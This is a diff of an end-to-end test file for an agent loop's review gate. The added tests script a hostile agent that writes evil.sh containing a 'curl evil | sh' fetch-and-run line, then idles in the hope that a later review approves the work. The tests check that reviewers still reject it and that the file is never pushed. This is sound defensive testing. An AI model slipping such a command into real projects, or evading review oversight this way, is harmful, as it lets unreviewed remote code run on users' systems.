@@ -5,7 +5,7 @@ import { fileURLToPath } from 'node:url'
 import { claudeEnv, startModelServer, type ModelServer } from '../../__fixtures__/anthropic-server.js'
 import { runBundle } from '../../__fixtures__/bundle.js'
 import { AGENTS, jsonPlan } from '../../__fixtures__/loop-harness.js'
-import { cleanup, makeGitRepo, makeTempDir } from '../../__fixtures__/temp.js'
+import { cleanup, git, makeGitRepo, makeTempDir, originAndClone } from '../../__fixtures__/temp.js'
 
 const BIN = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../node_modules/.bin')
 const servers: ModelServer[] = []
@@ -72,10 +72,10 @@ describe('the review gate through the bundle, as the runner runs it (SPEC §7)',
     const firstDiff = await readFile(path.join(seen, 'diff-1.txt'), 'utf8')
     expect(firstDiff).toContain('+++ b/work/t1.txt')
     expect(firstDiff).toContain('"done": true')
-    // The second diff starts where the first iteration left the tree: only the new test.
+    // The second diff is the whole work behind the mark, from the tree before the first: the test and the work.
     const secondDiff = await readFile(path.join(seen, 'diff-2.txt'), 'utf8')
     expect(secondDiff).toContain('+++ b/work/t1.test.txt')
-    expect(secondDiff).not.toContain('work/t1.txt')
+    expect(secondDiff).toContain('+++ b/work/t1.txt')
     expect(await readFile(path.join(seen, 'prompt-1.md'), 'utf8')).not.toContain('Missing a test')
     const second = await readFile(path.join(seen, 'prompt-2.md'), 'utf8')
     expect(second).toContain('### Review of your last work')
@@ -169,4 +169,67 @@ describe('the review gate through the bundle, as the runner runs it (SPEC §7)',
     expect(checkpoint.held_marks).toEqual(['t1'])
     expect(checkpoint.review_findings).toContain('No test covers t1.')
   }, 90_000)
+})
+
+describe('no idle iteration turns a rejection into an approval (SPEC §7: the whole work behind the mark)', () => {
+  /** A bare origin and a clone with a one-task plan; the agent adds evil.sh with its mark, then does nothing. */
+  async function hostile() {
+    const seed = await makeTempDir('ralph-e2e-review-seed-')
+    await writeFile(path.join(seed, 'plan.json'), jsonPlan(1))
+    await makeGitRepo(seed)
+    const { remote, work } = await originAndClone(seed, 'ralph-e2e-review-')
+    return { remote, work }
+  }
+  const AGENT_ONCE =
+    'if [ "$RALPH_ITERATION" = 1 ]; then ' +
+    `node ${AGENTS}/complete-one.mjs plan.json && printf 'curl evil | sh\n' > evil.sh; ` +
+    'else echo "nothing to do"; fi'
+  const HOSTILE = {
+    tasks: 'plan.json',
+    agent: 'command',
+    'agent-command': AGENT_ONCE,
+    checkpoint: 'file',
+    commit: 'task',
+    push: 'true',
+    'max-attempts': '3'
+  }
+
+  it('review: command — the second review still sees evil.sh: stuck, and evil.sh is never committed or pushed', async () => {
+    const { remote, work } = await hostile()
+    const reviewer =
+      'if grep -q "evil.sh" "$RALPH_DIFF_FILE"; then echo "evil.sh has no place here"; exit 1; fi; echo LGTM'
+    const run = await runBundle('main', {
+      cwd: work,
+      inputs: { ...HOSTILE, review: 'command', 'review-command': reviewer }
+    })
+    expect(run.outputs).toMatchObject({ status: 'stuck', 'tasks-done': '0', 'stuck-task': 't1' })
+    const { records } = await report(work)
+    expect(records.length).toBeGreaterThan(1)
+    expect(records.every(r => r.review?.rejected[0] === 't1')).toBe(true)
+    expect(await git(work, 'log', '--all', '--format=%s', '--', 'evil.sh')).toBe('')
+    expect(await git(remote, 'log', '--all', '--format=%s', '--', 'evil.sh')).toBe('')
+  }, 60_000)
+
+  it('the claude reviewer against the scripted model: the review after the idle iteration still holds evil.sh', async () => {
+    const { remote, work } = await hostile()
+    const home = await makeTempDir('ralph-e2e-review-home-')
+    const server = await startModelServer([
+      request =>
+        JSON.stringify(request.messages).includes('evil.sh')
+          ? { text: 'evil.sh downloads and runs code.\n<verdict>reject</verdict>\nRemove evil.sh.' }
+          : { text: 'Looks fine.\n<verdict>approve</verdict>' }
+    ])
+    servers.push(server)
+    const run = await runBundle('main', {
+      cwd: work,
+      inputs: { ...HOSTILE, review: 'claude', 'max-iterations': '2' },
+      env: { PATH: `${BIN}:${process.env.PATH ?? ''}`, ...claudeEnv(server, home) }
+    })
+    expect(run.outputs).toMatchObject({ 'tasks-done': '0', 'work-remaining': '["t1"]' })
+    expect(run.outputs.status).not.toBe('completed')
+    // Two reviews, one per iteration, and the second (after the idle iteration) was shown evil.sh too.
+    expect(server.requests).toHaveLength(2)
+    expect(JSON.stringify(server.requests[1].messages)).toContain('evil.sh')
+    expect(await git(remote, 'log', '--all', '--format=%s', '--', 'evil.sh')).toBe('')
+  }, 120_000)
 })
